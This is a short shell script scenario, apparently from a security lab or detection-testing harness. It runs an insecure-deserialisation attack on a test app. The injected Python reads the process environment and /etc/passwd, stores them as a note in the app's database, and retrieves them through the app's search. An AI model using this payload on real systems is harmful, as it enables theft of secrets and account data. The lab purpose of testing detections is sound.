# The app's insecure deserialisation again (see app-deserialize-exfil), with nothing sent out and nothing written
# but the app's own database: the code run inside the app reads the process's environment and the account list,
# stores them as a note, and the attacker reads the note back through the app's own search — every byte leaves in
# the app's ordinary replies, over the connection the request came in on (T1190, T1059.006, T1005).
IMAGE=app
normal() { app_traffic "$WEB_PORT" 60; }
attack() {
  app_unpickle "$WEB_PORT" "import sqlite3
with open('/proc/self/environ', 'rb') as f:
    loot = f.read().decode(errors='replace').replace(chr(0), chr(10))
with open('/etc/passwd') as f:
    loot += f.read()
c = sqlite3.connect('/srv/app/data/notes.db', timeout=10)
c.execute('INSERT INTO notes (title, body, at) VALUES (?, ?, 0)', ('notes', loot))
c.commit()
c.close()"
  # The attacker reads it back: the search names the note, the note holds the loot (kept for the lab's test).
  app_read_back "$WEB_PORT" "$LAB_DIR/inband.$$.out"
}
